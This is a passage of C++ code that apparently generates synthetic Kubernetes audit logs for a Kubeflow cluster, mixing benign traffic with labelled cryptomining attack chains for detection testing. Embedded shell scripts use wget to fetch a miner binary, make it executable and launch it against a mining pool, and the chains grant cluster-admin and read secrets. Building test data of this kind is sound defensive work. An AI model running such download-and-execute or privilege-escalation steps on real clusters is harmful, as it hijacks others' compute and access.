                    {.resource = "leases", .ns = "kube-system", .name = lease, .group = "coordination.k8s.io"},
                    std::move(request), std::move(response),
                    rbac_reason("ClusterRoleBinding", "system:" + lease, "system:" + lease, user_subject(who.username)),
                    "?timeout=5s"),
         t);
  }
  const std::string& lease_uid(const std::string& name) { return node_uid("lease/" + name); }
  void lease_kcm(std::int64_t t) { lease_update(t, kcm_, "kube-controller-manager"); }
  void lease_scheduler(std::int64_t t) { lease_update(t, scheduler_, "kube-scheduler"); }

  json notebook_object(const std::string& name, const std::string& ns, const std::string& creator, json pod) {
    json n;
    n["apiVersion"] = "kubeflow.org/v1";
    n["kind"] = "Notebook";
    json meta;
    meta["annotations"] = json{{"notebooks.kubeflow.org/creator", creator}, {"notebooks.kubeflow.org/server-type", "jupyter"}};
    meta["labels"] = json{{"app", name}};
    meta["name"] = name;
    meta["namespace"] = ns;
    n["metadata"] = std::move(meta);
    n["spec"] = json{{"template", json{{"spec", std::move(pod)}}}};
    return n;
  }

  std::string jwa_reason() const {
    return rbac_reason("ClusterRoleBinding", "jupyter-web-app-binding", "jupyter-web-app-cluster-role",
                       sa_subject(jwa_.username));
  }

  // The Jupyter web app creates Notebook nb for `creator`. stored_uid, when given, replaces the uid
  // the API server assigns (an attack chain needs it earlier, for the StatefulSet's owner).
  void notebook_create(const std::string& ns, const std::string& nb, const std::string& creator, json pod,
                       std::int64_t t, const std::string& stored_uid = {}, int chain = -1, int step = 0,
                       std::vector<std::string> rules = {}) {
    auto [req, resp] = created(notebook_object(nb, ns, creator, std::move(pod)), nb, ns, t);
    if (!stored_uid.empty()) resp["metadata"]["uid"] = stored_uid;
    emit(create_call(jwa_, {.resource = "notebooks", .ns = ns, .name = nb, .group = "kubeflow.org"},
                     {std::move(req), std::move(resp)}, jwa_reason()),
         t, chain, step, std::move(rules));
  }

  void jwa_notebook(std::int64_t t, const Namespace& ns) {
    const bool alice = ns.name == "kubeflow-alice";
    const std::string nb = (alice ? "alice-nb-" : "bob-nb-") + rng_.k8s_suffix(4);
    notebook_create(ns.name, nb, ns.owner_email, user_notebook_pod_spec(nb, alice), t);
  }
  void jwa_notebook_any(std::int64_t t) { jwa_notebook(t, rng_.pick(user_namespaces_)); }

  void jwa_list(std::int64_t t) {
    const Namespace& ns = rng_.pick(user_namespaces_);
    static const std::vector<std::pair<std::string, std::string>> what = {
        {"notebooks", "kubeflow.org"}, {"poddefaults", "kubeflow.org"}, {"persistentvolumeclaims", ""}, {"events", ""}};
    const auto& [resource, group] = rng_.pick(what);
    emit(read_call(jwa_, "list",
                   {.resource = resource, .ns = ns.name, .group = group,
                    .version = resource == "poddefaults" ? "v1alpha1" : "v1"},
                   jwa_reason()),
         t);
  }

  void notebook_statefulset(std::int64_t t) {
    const Namespace& ns = rng_.pick(user_namespaces_);
    const std::string nb = user_notebook(ns.name);
    statefulset_create(notebook_controller_, ns.name, nb, uid(),
                       user_notebook_pod_spec(nb, ns.name == "kubeflow-alice"), t);
  }

  std::string statefulset_create(const Actor& who, const std::string& ns, const std::string& nb, const std::string& notebook_uid,
                          json pod, std::int64_t t, int chain = -1, int step = 0, std::vector<std::string> rules = {}) {
    json sts;
    sts["kind"] = "StatefulSet";
    sts["apiVersion"] = "apps/v1";
    json meta;
    meta["name"] = nb;
    meta["namespace"] = ns;
    meta["creationTimestamp"] = nullptr;
    meta["ownerReferences"] = json::array({owner("kubeflow.org/v1", "Notebook", nb, notebook_uid)});
    sts["metadata"] = std::move(meta);
    json spec;
    spec["replicas"] = 1;
    spec["selector"] = json{{"matchLabels", json{{"statefulset", nb}}}};
    spec["template"] = json{{"metadata", json{{"creationTimestamp", nullptr},
                                              {"labels", json{{"notebook-name", nb}, {"statefulset", nb}}}}},
                            {"spec", std::move(pod)}};
    spec["serviceName"] = "";
    spec["podManagementPolicy"] = "OrderedReady";
    spec["updateStrategy"] = json{{"type", "RollingUpdate"}};
    sts["spec"] = std::move(spec);
    sts["status"] = json{{"replicas", 0}, {"availableReplicas", 0}};
    auto sent_and_stored = created(std::move(sts), nb, ns, t, json{{"replicas", 0}, {"availableReplicas", 0}});
    std::string created_uid = sent_and_stored.second["metadata"]["uid"].get<std::string>();
    emit(create_call(who, {.resource = "statefulsets", .ns = ns, .name = nb, .group = "apps"},
                     std::move(sent_and_stored),
                     rbac_reason("ClusterRoleBinding", "notebook-controller-role-binding", "notebook-controller-role",
                                 sa_subject(who.username))),
         t, chain, step, std::move(rules));
    return created_uid;
  }

  void training_pod(std::int64_t t) {
    const Namespace& ns = rng_.pick(user_namespaces_);
    const bool tf = rng_.chance(60);
    const std::string job = (tf ? "mnist-" : "pytorch-simple-") + rng_.k8s_suffix(5);
    const std::string replica = tf ? "worker" : "master";
    const std::string pod = job + "-" + replica + "-0";
    json spec = pod_spec(json::array({training_container(tf)}), "default", gpu_node_selector());
    spec["restartPolicy"] = "Never";
    json l = labels({{"training.kubeflow.org/job-name", job},
                     {"training.kubeflow.org/operator-name", tf ? "tfjob-controller" : "pytorchjob-controller"},
                     {"training.kubeflow.org/replica-index", "0"},
                     {"training.kubeflow.org/replica-type", replica}});
    pod_create(training_operator_, ns.name, pod, false, std::move(l),
               owner("kubeflow.org/v1", tf ? "TFJob" : "PyTorchJob", job, uid()), std::move(spec), t,
               "training-operator", "training-operator");
  }

  void argo_pod(std::int64_t t) {
    const Namespace& ns = rng_.pick(user_namespaces_);
    const std::string wf = "hello-world-" + rng_.k8s_suffix(5);
    const std::string pod = wf + "-system-container-impl-" + std::to_string(1000000000 + rng_.below(3000000000ULL));
    json wait = container("wait", "gcr.io/ml-pipeline/argoexec:v3.4.16-license-compliance",
                          json::array({"argoexec", "wait", "--loglevel", "info"}), small_resources());
    json main = container("main", "python:3.9",
                          json::array({"/var/run/argo/argoexec", "emissary", "--", "sh", "-c", "python3 -m kfp.dsl.executor_main"}),
                          small_resources());
    json init = json::array({container("init", "gcr.io/ml-pipeline/argoexec:v3.4.16-license-compliance",
                                       json::array({"argoexec", "init", "--loglevel", "info"}), small_resources())});
    json spec = pod_spec(json::array({std::move(wait), std::move(main)}), "pipeline-runner", nullptr, std::move(init));
    spec["restartPolicy"] = "Never";
    pod_create(argo_, ns.name, pod, false,
               labels({{"workflows.argoproj.io/completed", "false"}, {"workflows.argoproj.io/workflow", wf}}),
               owner("argoproj.io/v1alpha1", "Workflow", wf, uid()), std::move(spec), t, "argo-binding", "argo-cluster-role");
  }

  void pipeline_workflow(std::int64_t t) {
    const Namespace& ns = rng_.pick(user_namespaces_);
    const std::string wf = "hello-world-" + rng_.k8s_suffix(5);
    json w;
    w["apiVersion"] = "argoproj.io/v1alpha1";
    w["kind"] = "Workflow";
    w["metadata"] = json{{"generateName", "hello-world-"},
                         {"namespace", ns.name},
                         {"creationTimestamp", nullptr},
                         {"labels", json{{"pipeline/runid", uid()}, {"pipelines.kubeflow.org/v2_component", "true"}}}};
    json tmpl;
    tmpl["name"] = "system-container-impl";
    tmpl["container"] = json{{"image", "python:3.9"}, {"command", json::array({"sh", "-c", "python3 -m kfp.dsl.executor_main"})}};
    w["spec"] = json{{"entrypoint", "entrypoint"}, {"serviceAccountName", "pipeline-runner"},
                     {"templates", json::array({std::move(tmpl)})}};
    w["status"] = json::object();
    // generateName: the objectRef has no name.
    emit(create_call(ml_pipeline_,
                     {.resource = "workflows", .ns = ns.name, .group = "argoproj.io", .version = "v1alpha1"},
                     created(std::move(w), wf, ns.name, t, json::object()),
                     rbac_reason("ClusterRoleBinding", "ml-pipeline", "ml-pipeline",
                                 sa_subject(ml_pipeline_.username))),
         t);
  }

  void profile_namespace(std::int64_t t, const std::string& ns, const std::string& owner_email) {
    json n;
    n["kind"] = "Namespace";
    n["apiVersion"] = "v1";
    n["metadata"] = json{{"name", ns},
                         {"creationTimestamp", nullptr},
                         {"labels", json{{"app.kubernetes.io/part-of", "kubeflow-profile"},
                                         {"istio-injection", "enabled"},
                                         {"katib.kubeflow.org/metrics-collector-injection", "enabled"},
                                         {"pipelines.kubeflow.org/enabled", "true"}}},
                         {"annotations", json{{"owner", owner_email}}},
                         {"ownerReferences", json::array({owner("kubeflow.org/v1", "Profile", ns, uid())})}};
    n["spec"] = json::object();
    n["status"] = json::object();
    auto [req, resp] = created(std::move(n), ns, "", t, json{{"phase", "Active"}});
    resp["spec"] = json{{"finalizers", json::array({"kubernetes"})}};
    emit(create_call(profiles_, {.resource = "namespaces", .name = ns}, {std::move(req), std::move(resp)},
                     profiles_reason()),
         t);
  }

  std::string profiles_reason() const {
    return rbac_reason("ClusterRoleBinding", "profiles-cluster-rolebinding", "cluster-admin",
                       sa_subject(profiles_.username));
  }

  void profiles_read(std::int64_t t) {
    ObjectRef object;
    if (rng_.chance(50))
      object = {.resource = "rolebindings", .ns = rng_.pick(user_namespaces_).name, .name = "namespaceAdmin",
                .group = "rbac.authorization.k8s.io"};
    else
      object = {.resource = "profiles", .name = rng_.pick(user_namespaces_).name, .group = "kubeflow.org"};
    emit(read_call(profiles_, "get", std::move(object), profiles_reason()), t);
  }

  // A profile owner (alice, bob) in their own namespace.
  static std::string namespace_admin_reason(const Actor& who, const std::string& ns) {
    return rbac_reason("RoleBinding", "namespaceAdmin/" + ns, "kubeflow-admin", user_subject(who.username));
  }

  void user_read(std::int64_t t, const Actor& who) {
    const std::string ns = who.username == alice_.username ? "kubeflow-alice" : "kubeflow-bob";
    struct What {
      const char* resource;
      const char* group;
      const char* version;
    };
    static const std::vector<What> what = {{"pods", "", "v1"},          {"tfjobs", "kubeflow.org", "v1"},
                                           {"notebooks", "kubeflow.org", "v1"}, {"pytorchjobs", "kubeflow.org", "v1"},
                                           {"services", "", "v1"},      {"persistentvolumeclaims", "", "v1"}};
    const What& w = rng_.pick(what);
    const auto r = rng_.below(10);
    const std::string verb = r < 6 ? "list" : r < 9 ? "get" : "watch";
    ObjectRef object{.resource = w.resource, .ns = ns, .group = w.group, .version = w.version};
    std::string query;
    if (verb == "get") {
      const std::string nb = user_notebook(ns);
      if (object.resource == "pods") object.name = nb + "-0";
      else if (object.resource == "notebooks") object.name = nb;
      else if (object.resource == "persistentvolumeclaims") object.name = nb + "-volume";
      else if (object.resource == "services") object.name = nb;
      else object.name = (object.resource == "tfjobs" ? "mnist-" : "pytorch-simple-") + rng_.k8s_suffix(5);
    } else if (verb == "list") {
      query = "?limit=500";
    } else {
      query = "?allowWatchBookmarks=true&resourceVersion=" + std::to_string(resource_version_) +
              "&timeoutSeconds=331&watch=true";
    }
    emit(read_call(who, verb, std::move(object), namespace_admin_reason(who, ns), query), t);
  }
  void user_read_any(std::int64_t t) { user_read(t, rng_.chance(50) ? alice_ : bob_); }

  void user_training_job(std::int64_t t, const Actor& who, bool tf) {
    const std::string ns = who.username == alice_.username ? "kubeflow-alice" : "kubeflow-bob";
    const std::string job = (tf ? "mnist-" : "pytorch-simple-") + rng_.k8s_suffix(5);
    json tmpl;
    tmpl["spec"] = json{{"containers", json::array({training_container(tf)})}, {"nodeSelector", gpu_node_selector()}};
    json replica;
    replica["replicas"] = tf ? 2 : 1;
    replica["restartPolicy"] = "OnFailure";
    replica["template"] = std::move(tmpl);
    json obj;
    obj["apiVersion"] = "kubeflow.org/v1";
    obj["kind"] = tf ? "TFJob" : "PyTorchJob";
    obj["metadata"] = json{{"name", job}, {"namespace", ns}};
    obj["spec"] = tf ? json{{"tfReplicaSpecs", json{{"Worker", std::move(replica)}}}}
                     : json{{"pytorchReplicaSpecs", json{{"Master", std::move(replica)}}}};
    emit(create_call(who, {.resource = tf ? "tfjobs" : "pytorchjobs", .ns = ns, .name = job, .group = "kubeflow.org"},
                     created(std::move(obj), job, ns, t), namespace_admin_reason(who, ns),
                     "?fieldManager=kubectl-client-side-apply"),
         t);
  }
  void user_tfjob_any(std::int64_t t) { user_training_job(t, rng_.chance(50) ? alice_ : bob_, true); }
  void user_pytorchjob_any(std::int64_t t) { user_training_job(t, rng_.chance(50) ? alice_ : bob_, false); }

  void probe(std::int64_t t, const std::string& path) {
    emit({.who = &probe_, .verb = "get", .uri = path,
          .reason = rbac_reason("ClusterRoleBinding", "system:public-info-viewer", "system:public-info-viewer",
                                "Group \"system:unauthenticated\"")},
         t);
  }
  void probe_any(std::int64_t t) {
    static const std::vector<std::string> paths = {"/healthz", "/version", "/readyz", "/livez"};
    probe(t, rng_.pick(paths));
  }

  void admin_read(std::int64_t t) {
    static const std::vector<std::string> resources = {"nodes", "namespaces", "pods"};
    emit(read_call(admin_, "list", {.resource = rng_.pick(resources)}, "", "?limit=500"), t);
  }

  void benign() {
    const std::int64_t start = kTrafficStartUs;
    const std::int64_t window = opt_.hours * kHour;

    // Warm-up: every benign identity (and every kind of call) once, in the first 50 minutes.
    std::vector<std::function<void(std::int64_t)>> warm;
    warm.push_back([this](std::int64_t t) { probe(t, "/healthz"); });
    for (const Namespace& ns : user_namespaces_)
      warm.push_back([this, ns](std::int64_t t) { profile_namespace(t, ns.name, ns.owner_email); });
    for (int c = 1; c <= opt_.chains; ++c)
      warm.push_back([this, c](std::int64_t t) {
        profile_namespace(t, chain_namespace(c), "user-c" + std::to_string(c) + "@example.com");
      });
    for (std::size_t i = 0; i < kubelets_.size(); ++i) {
      warm.push_back([this, i](std::int64_t t) { kubelet_node_status(t, kubelets_[i]); });
      warm.push_back([this, i](std::int64_t t) { kubelet_get(t, kubelets_[i], i % 2 == 0); });
    }
    warm.push_back([this](std::int64_t t) { lease_kcm(t); });
    warm.push_back([this](std::int64_t t) { lease_scheduler(t); });
    warm.push_back([this](std::int64_t t) { rs_pod(t); });
    warm.push_back([this](std::int64_t t) { scheduler_bind(t); });
    warm.push_back([this](std::int64_t t) { jwa_notebook(t, user_namespaces_[0]); });
    warm.push_back([this](std::int64_t t) { jwa_notebook(t, user_namespaces_[1]); });
    warm.push_back([this](std::int64_t t) { notebook_statefulset(t); });
    warm.push_back([this](std::int64_t t) { ss_pod(t); });
    warm.push_back([this](std::int64_t t) { kubelet_pod_status(t, kubelets_[0]); });
    warm.push_back([this](std::int64_t t) { user_read(t, alice_); });
    warm.push_back([this](std::int64_t t) { user_read(t, bob_); });
    warm.push_back([this](std::int64_t t) { user_training_job(t, alice_, true); });
    warm.push_back([this](std::int64_t t) { user_training_job(t, bob_, false); });
    warm.push_back([this](std::int64_t t) { training_pod(t); });
    warm.push_back([this](std::int64_t t) { pipeline_workflow(t); });
    warm.push_back([this](std::int64_t t) { argo_pod(t); });
    warm.push_back([this](std::int64_t t) { job_pod(t); });
    warm.push_back([this](std::int64_t t) { jwa_list(t); });
    warm.push_back([this](std::int64_t t) { profiles_read(t); });
    warm.push_back([this](std::int64_t t) { admin_read(t); });
    warm.push_back([this](std::int64_t t) { probe(t, "/version"); });
    warm.push_back([this](std::int64_t t) { probe(t, "/readyz"); });
    warm.push_back([this](std::int64_t t) { probe(t, "/livez"); });

    const std::size_t n_warm = std::min<std::size_t>(warm.size(), static_cast<std::size_t>(opt_.benign_events));
    const std::int64_t warm_span = std::min<std::int64_t>(50 * kMinute, window);
    for (std::size_t i = 0; i < n_warm; ++i) {
      // the first at the very start, the others spread over 50 minutes with a little jitter
      std::int64_t t = start + static_cast<std::int64_t>(i) * (warm_span / static_cast<std::int64_t>(warm.size()));
      if (i > 0) t += rng_.between(0, 30 * kSecond);
      warm[i](t);
    }

    // The rest, spread over the window by weight.
    struct Weighted {
      int weight;
      std::function<void(std::int64_t)> emit;
    };
    const std::vector<Weighted> table = {  // per mille
        {140, [this](std::int64_t t) { kubelet_node_status_any(t); }},
        {80, [this](std::int64_t t) { kubelet_pod_status_any(t); }},
        {100, [this](std::int64_t t) { kubelet_get_any(t); }},
        {75, [this](std::int64_t t) { lease_kcm(t); }},
        {75, [this](std::int64_t t) { lease_scheduler(t); }},
        {100, [this](std::int64_t t) { probe_any(t); }},
        {40, [this](std::int64_t t) { rs_pod(t); }},
        {8, [this](std::int64_t t) { ss_pod(t); }},
        {20, [this](std::int64_t t) { job_pod(t); }},
        {90, [this](std::int64_t t) { scheduler_bind(t); }},
        {3, [this](std::int64_t t) { notebook_statefulset(t); }},
        {30, [this](std::int64_t t) { training_pod(t); }},
        {30, [this](std::int64_t t) { argo_pod(t); }},
        {8, [this](std::int64_t t) { pipeline_workflow(t); }},
        {12, [this](std::int64_t t) { profiles_read(t); }},
        {40, [this](std::int64_t t) { jwa_list(t); }},
        {3, [this](std::int64_t t) { jwa_notebook_any(t); }},
        {120, [this](std::int64_t t) { user_read_any(t); }},
        {7, [this](std::int64_t t) { user_tfjob_any(t); }},
        {5, [this](std::int64_t t) { user_pytorchjob_any(t); }},
        {14, [this](std::int64_t t) { admin_read(t); }},
    };
    int total = 0;
    for (const Weighted& w : table) total += w.weight;
    for (int i = static_cast<int>(n_warm); i < opt_.benign_events; ++i) {
      const std::int64_t t = start + rng_.between(0, window - 1);
      int r = static_cast<int>(rng_.below(static_cast<std::uint64_t>(total)));
      for (const Weighted& w : table) {
        if (r < w.weight) {
          w.emit(t);
          break;
        }
        r -= w.weight;
      }
    }
  }

  // ---- attack chains -----------------------------------------------------------------------

  void chain(int c) {
    const std::int64_t window = opt_.hours * kHour;
    const int n = std::max(1, opt_.chains);
    const std::int64_t gap = std::max<std::int64_t>(3 * kHour + 45 * kMinute, (window - 2 * kHour - 30 * kMinute) / n);
    std::int64_t t = kTrafficStartUs + 2 * kHour + (c - 1) * gap + rng_.between(0, 10 * kMinute);

    const std::string ns = chain_namespace(c);
    const std::string nb = "tf-gpu-" + rng_.k8s_suffix(5);
    const std::string pod = nb + "-0";
    const std::string notebook_uid = uid();
    Actor attacker{"system:anonymous", "", {"system:unauthenticated"}, nullptr, "198.51.100." + std::to_string(20 + c),
                   "python-requests/2.25.1"};
    const Actor* anon = &chain_actors_.emplace_back(std::move(attacker));

    // 1. The dashboard's gateway (or the Pipelines UI) turned into a LoadBalancer.
    {
      const bool istio = c % 2 == 1;
      const std::string svc_ns = istio ? "istio-system" : "kubeflow";
      const std::string svc = istio ? "istio-ingressgateway" : "ml-pipeline-ui";
      json request;
      request["spec"] = json{{"type", "LoadBalancer"}};
      json response;
      response["kind"] = "Service";
      response["apiVersion"] = "v1";
      response["metadata"] = json{{"name", svc},
                                  {"namespace", svc_ns},
                                  {"uid", uid()},
                                  {"resourceVersion", std::to_string(next_rv())},
                                  {"creationTimestamp", rfc3339(kTrafficStartUs - 30 * 24 * kHour, 0)},
                                  {"labels", json{{"app", svc}}}};
      json port = istio ? json{{"name", "http2"}, {"protocol", "TCP"}, {"port", 80}, {"targetPort", 8080}, {"nodePort", 31380}}
                        : json{{"name", "http"}, {"protocol", "TCP"}, {"port", 80}, {"targetPort", 3000}, {"nodePort", 30080}};
      response["spec"] = json{{"ports", json::array({std::move(port)})},
                              {"selector", json{{"app", svc}}},
                              {"clusterIP", "10.0." + std::to_string(100 + c) + ".17"},
                              {"type", "LoadBalancer"},
                              {"sessionAffinity", "None"},
                              {"externalTrafficPolicy", "Cluster"}};
      response["status"] = json{{"loadBalancer", json::object()}};
      emit(write_call(admin_, "patch", {.resource = "services", .ns = svc_ns, .name = svc}, std::move(request),
                      std::move(response), "", "?fieldManager=kubectl-patch"),
           t, c, 1, {"MG-AUD-008"});
    }
    // 2. Anonymous access that works.
    t += rng_.between(60 * kSecond, 180 * kSecond);
    emit(read_call(*anon, "list", {.resource = "namespaces"},
                   rbac_reason("ClusterRoleBinding", "kubeflow-anonymous", "cluster-admin",
                               user_subject(anon->username)),
                   "?limit=500"),
         t, c, 2, {"MG-AUD-009"});
    // 3. A notebook server with the miner image, on a GPU node, through the Jupyter web app.
    t += rng_.between(120 * kSecond, 300 * kSecond);
    json miner_pod = notebook_pod_spec(nb, std::string(kMinerImage), true, true);
    notebook_create(ns, nb, "anonymous@kubeflow.org", miner_pod, t, notebook_uid, c, 3,
                    {"MG-AUD-001", "MG-AUD-003", "MG-AUD-013"});
    // 4. The notebook controller's StatefulSet for it.
    t += rng_.between(300 * kMs, 2 * kSecond);
    const std::string sts_uid =
        statefulset_create(notebook_controller_, ns, nb, notebook_uid, miner_pod, t, c, 4, {"MG-AUD-001", "MG-AUD-003"});
    // 5. Its pod, created by the statefulset controller.
    t += rng_.between(300 * kMs, 2 * kSecond);
    const std::string pod_uid =
        statefulset_pod_create(ns, nb, sts_uid, miner_pod, t, c, 5, {"MG-AUD-001", "MG-AUD-003"});
    // The pod's token, bound to it (pod-name and pod-uid in user.extra), is what the attacker uses.
    Actor editor = service_account(ns, "default-editor", "10.244.2." + std::to_string(10 + c),
                                   "kubectl/v1.21.0 (linux/amd64) kubernetes/cb303e6", pod);
    editor.extra["authentication.kubernetes.io/pod-uid"] = json::array({pod_uid});
    const Actor* editor_ptr = &chain_actors_.emplace_back(std::move(editor));
    const std::string editor_reason =
        rbac_reason("RoleBinding", "default-editor/" + ns, "kubeflow-edit", sa_subject(editor_ptr->username));
    // 6. From inside the pod, with its token: the namespace's secrets.
    t += rng_.between(180 * kSecond, 360 * kSecond);
    emit(read_call(*editor_ptr, "list", {.resource = "secrets", .ns = ns}, editor_reason, "?limit=500"), t, c, 6,
         {"MG-AUD-011"});
    // 7. More miners: a Deployment whose command downloads and starts XMRig.
    t += rng_.between(60 * kSecond, 180 * kSecond);
    {
      const std::string deploy = "tf-serving-" + rng_.k8s_suffix(5);
      const std::string script = "wget -q " + std::string(kMinerDownloadUrl) +
                                 " -O /tmp/x && chmod +x /tmp/x && /tmp/x -o stratum+tcp://" + std::string(kPoolHost) +
                                 ":3333 -u " + std::string(kWallet) + " --donate-level 1";
      json ctr = container("tensorflow", std::string(kDropperImage), json::array({"sh", "-c", script}), gpu_resources());
      json tmpl;
      tmpl["metadata"] = json{{"creationTimestamp", nullptr}, {"labels", json{{"app", deploy}}}};
      json spec = pod_spec(json::array({std::move(ctr)}), "default-editor", gpu_node_selector());
      tmpl["spec"] = std::move(spec);
      json d;
      d["kind"] = "Deployment";
      d["apiVersion"] = "apps/v1";
      d["metadata"] = json{{"name", deploy}, {"namespace", ns}, {"creationTimestamp", nullptr}, {"labels", json{{"app", deploy}}}};
      d["spec"] = json{{"replicas", 4},
                       {"selector", json{{"matchLabels", json{{"app", deploy}}}}},
                       {"template", std::move(tmpl)},
                       {"strategy", json{{"type", "RollingUpdate"}}}};
      d["status"] = json::object();
      emit(create_call(*editor_ptr, {.resource = "deployments", .ns = ns, .name = deploy, .group = "apps"},
                       created(std::move(d), deploy, ns, t, json::object()), editor_reason,
                       "?fieldManager=kubectl-create"),
           t, c, 7, {"MG-AUD-002", "MG-AUD-003", "MG-AUD-004", "MG-AUD-005", "MG-AUD-013"});
    }
    // 8. cluster-admin for itself.
    t += rng_.between(60 * kSecond, 180 * kSecond);
    {
      const std::string crb = "default-editor-" + ns + "-admin";
      json obj;
      obj["kind"] = "ClusterRoleBinding";
      obj["apiVersion"] = "rbac.authorization.k8s.io/v1";
      obj["metadata"] = json{{"name", crb}, {"creationTimestamp", nullptr}};
      obj["subjects"] = json::array({json{{"kind", "ServiceAccount"}, {"name", "default-editor"}, {"namespace", ns}}});
      obj["roleRef"] = json{{"apiGroup", "rbac.authorization.k8s.io"}, {"kind", "ClusterRole"}, {"name", "cluster-admin"}};
      emit(create_call(*editor_ptr,
                       {.resource = "clusterrolebindings", .name = crb, .group = "rbac.authorization.k8s.io"},
                       created(std::move(obj), crb, "", t), editor_reason, "?fieldManager=kubectl-create"),
           t, c, 8, {"MG-AUD-010"});
    }
    // 9. An interactive shell in the notebook pod that starts the miner (kubectl exec, SPDY:
    // verb create, stage ResponseStarted, code 101; the query is encoded as kubectl encodes it).
    t += rng_.between(60 * kSecond, 180 * kSecond);
    {
      const std::string script = "cd /tmp && wget -q " + std::string(kMinerDownloadUrl) +
                                 " -O /tmp/x && chmod +x /tmp/x && nohup /tmp/x -o " + std::string(kPoolHost) +
                                 ":3333 -u " + std::string(kWallet) + " -k --tls >/dev/null 2>&1 &";
      Call exec = create_call(*editor_ptr, {.resource = "pods", .ns = ns, .name = pod, .sub = "exec"}, {},
                              editor_reason,
                              "?command=sh&command=-c&command=" + query_escape(script) + "&container=" + nb +
                                  "&stdin=true&stdout=true&tty=true");
      exec.code = 101;
      exec.stage = "ResponseStarted";
      exec.level = Level::request;  // a connect request has no body to log
      emit(exec, t, c, 9, {"MG-AUD-006", "MG-AUD-007"});
    }
  }

  // Go's url.QueryEscape, which kubectl's query parameters go through.
  static std::string query_escape(std::string_view s) {
    static constexpr char kHex[] = "0123456789ABCDEF";
    std::string out;
    for (unsigned char ch : s) {
      if ((ch >= 'a' && ch <= 'z') || (ch >= 'A' && ch <= 'Z') || (ch >= '0' && ch <= '9') || ch == '-' || ch == '_' ||
          ch == '.' || ch == '~') {
        out += static_cast<char>(ch);
      } else if (ch == ' ') {
        out += '+';
      } else {
        out += '%';
        out += kHex[ch >> 4];
        out += kHex[ch & 15];
      }
    }
    return out;
  }

  TrafficOptions opt_;
  Rng rng_;
  std::int64_t resource_version_ = 48211337;
  std::vector<GeneratedEvent> events_;
  Actor rs_controller_, ss_controller_, job_controller_, scheduler_, kcm_, notebook_controller_, training_operator_,
      argo_, ml_pipeline_, profiles_, jwa_, alice_, bob_, admin_, probe_;
  std::vector<Actor> kubelets_;
  std::deque<Actor> chain_actors_;
  std::vector<Namespace> user_namespaces_;
  std::vector<std::pair<std::string, std::string>> node_uids_;
};

// ---------------------------------------------------------------------------------------------
// GKE: the event as Cloud Logging's LogEntry of a google.cloud.audit.AuditLog.

// "rbac.authorization.k8s.io" → "io.k8s.authorization.rbac"; "apps" → "io.k8s.apps"; "" → "io.k8s.core";
// "kubeflow.org" → "org.kubeflow" (reversed DNS name, as networking.gke.io → io.gke.networking).
std::string method_prefix(const std::string& group) {
  if (group.empty()) return "io.k8s.core";
  if (group.find('.') == std::string::npos) return "io.k8s." + group;
  std::vector<std::string> parts;
  std::size_t start = 0;
  for (;;) {
    const std::size_t dot = group.find('.', start);
    parts.push_back(group.substr(start, dot - start));
    if (dot == std::string::npos) break;
    start = dot + 1;
  }
  std::string out;
  for (auto it = parts.rbegin(); it != parts.rend(); ++it) out += (out.empty() ? "" : ".") + *it;
  return out;
}

// The "@type" GKE gives request and response objects.
std::string proto_type(const std::string& group, const std::string& version, const json& object) {
  if (!object.contains("kind")) return "k8s.io/Patch";
  const std::string kind = object["kind"].get<std::string>();
  if (kind == "Status") return "core.k8s.io/v1.Status";
  if (group.empty()) return "core.k8s.io/" + version + "." + kind;
  if (group.find('.') == std::string::npos) return group + ".k8s.io/" + version + "." + kind;
  return group + "/" + version + "." + kind;
}

json typed(const json& object, const std::string& type) {
  json out;
  out["@type"] = type;
  for (auto& [k, v] : object.items()) out[k] = v;
  return out;
}

int rpc_of_http(int code) {
  if (code < 400) return 0;
  switch (code) {
    case 400: return 3;
    case 401: return 16;
    case 403: return 7;
    case 404: return 5;
    case 409: return 6;
    case 429: return 8;
    case 503: return 14;
    case 504: return 4;
    default: return 13;
  }
}

}  // namespace

std::string chain_namespace(int chain) { return "kubeflow-user-c" + std::to_string(chain); }
std::string chain_actor(int chain) { return "system:serviceaccount:" + chain_namespace(chain) + ":default-editor"; }

std::vector<GeneratedEvent> generate_traffic(const TrafficOptions& options) { return Generator(options).run(); }

std::string to_json_lines(std::span<const GeneratedEvent> events) {
  std::size_t size = 0;
  for (const GeneratedEvent& e : events) size += e.json.size() + 1;
  std::string out;
  out.reserve(size);
  for (const GeneratedEvent& e : events) {
    out += e.json;
    out += '\n';
  }
  return out;
}

std::string wrap_aks(std::span<const GeneratedEvent> events) {
  json records = json::array();
  for (const GeneratedEvent& e : events) {
    json record;
    record["operationName"] = "Microsoft.ContainerService/managedClusters/diagnosticLogs/Read";
    record["category"] = "kube-audit";
    record["ccpNamespace"] = "65f1c0de5a7e2b0001d4c3a9";
    record["resourceId"] =
        "/SUBSCRIPTIONS/00000000-0000-4000-8000-000000000000/RESOURCEGROUPS/MG-KUBEFLOW-RG/PROVIDERS/"
        "MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/MG-KUBEFLOW";
    json properties;
    properties["log"] = e.json + "\n";
    properties["stream"] = "stdout";
    properties["pod"] = "kube-apiserver-6df5497d6d-g2vd7";
    record["properties"] = std::move(properties);
    record["time"] = rfc3339(e.time_us, 7);
    record["Cloud"] = "AzureCloud";
    record["Environment"] = "prod";
    record["UnderlayClass"] = "hcp-underlay";
    record["UnderlayName"] = "hcp-underlay-eastus-cx-42";
    records.push_back(std::move(record));
  }
  json doc;
  doc["records"] = std::move(records);
  return doc.dump() + "\n";
}

std::string wrap_eks(std::span<const GeneratedEvent> events) {
  json list = json::array();
  std::uint64_t index = 0;
  for (const GeneratedEvent& e : events) {
    const std::int64_t ms = floor_div(e.time_us, kMs);
    json item;
    item["logStreamName"] = "kube-apiserver-audit-2f5b1e0c9d7a4e6f8b3c1a0d9e8f7a6b";
    item["timestamp"] = ms;
    item["message"] = e.json;
    item["ingestionTime"] = ms + 800 + static_cast<std::int64_t>(mix(index) % 2200);
    char id[64];
    std::snprintf(id, sizeof id, "%013lld%043llu", static_cast<long long>(ms),
                  static_cast<unsigned long long>(mix(index) % 10000000000000000000ULL));
    item["eventId"] = std::string(id).substr(0, 56);
    list.push_back(std::move(item));
    ++index;
  }
  json doc;
  doc["events"] = std::move(list);
  doc["searchedLogStreams"] = json::array();
  return doc.dump(4) + "\n";
}

std::string wrap_gke(std::span<const GeneratedEvent> events) {
  std::string out;
  std::uint64_t index = 0;
  for (const GeneratedEvent& e : events) {
    ++index;
    const json ev = json::parse(e.json);
    if (!ev.contains("objectRef")) continue;  // non-resource URL
    const json& ref = ev["objectRef"];
    auto field = [&ref](const char* key) { return ref.contains(key) ? ref[key].get<std::string>() : std::string(); };
